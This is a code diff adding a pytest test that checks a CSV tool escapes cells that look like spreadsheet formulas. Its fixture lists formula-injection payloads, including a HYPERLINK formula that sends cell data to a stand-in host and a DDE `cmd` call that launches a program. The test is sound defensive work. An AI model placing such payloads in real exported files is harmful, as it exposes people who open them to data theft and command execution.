@@ -82,3 +82,19 @@ def test_a_cell_past_the_limit_names_its_line(tmp_path: Path) -> None:
     path.write_text(f'id;résumé\n1;court\n2;"{"x" * (MAX_CELL_CHARS + 10)}"\n', encoding="utf-8")
     with pytest.raises(ValueError, match=r"huge.csv: line \d+: .*at most 1,000,000 characters"):
         read_table(path)
+
+
+def test_cells_that_read_as_formulas_are_written_as_text(tmp_path: Path, lexical: Searcher) -> None:
+    """An application's cell such as `=HYPERLINK(…)`, `=cmd|' /C calc'!A0`, `+1+1`, `-2`, `@SUM(…)`, or one
+    starting with a tab, is written with a leading apostrophe: opened in a spreadsheet it shows, never runs."""
+    hostile = ['=HYPERLINK("http://x/?"&A1,"clic")', "=cmd|' /C calc'!A0", "+1+1", "-2", "@SUM(A1:A9)", "\tx"]
+    path = tmp_path / "appel.csv"
+    with path.open("w", encoding="utf-8", newline="") as stream:
+        writer = csv.writer(stream, delimiter=";")
+        writer.writerow(["porteur", "résumé"])
+        writer.writerows([cell, "chantier d'insertion"] for cell in hostile)
+    out = tmp_path / "out.csv"
+    assert classify_file(lexical, path, "résumé", out) == len(hostile)
+    rows = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines(), delimiter=";"))
+    assert [row["porteur"] for row in rows] == [f"'{cell}" for cell in hostile]
+    assert all(row["code_suggere"] == "2.1.1" for row in rows)
